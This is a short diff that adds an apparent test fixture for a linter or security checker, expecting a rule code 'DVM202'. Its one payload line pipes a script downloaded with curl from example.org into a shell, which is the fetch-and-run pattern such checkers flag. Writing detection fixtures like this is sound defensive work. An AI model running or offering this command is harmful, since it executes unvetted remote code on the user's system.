@@ -1,0 +1,2 @@
+# expect: DVM202
+${SHELL} -c "$(curl -fsSL https://example.org/i.sh)"
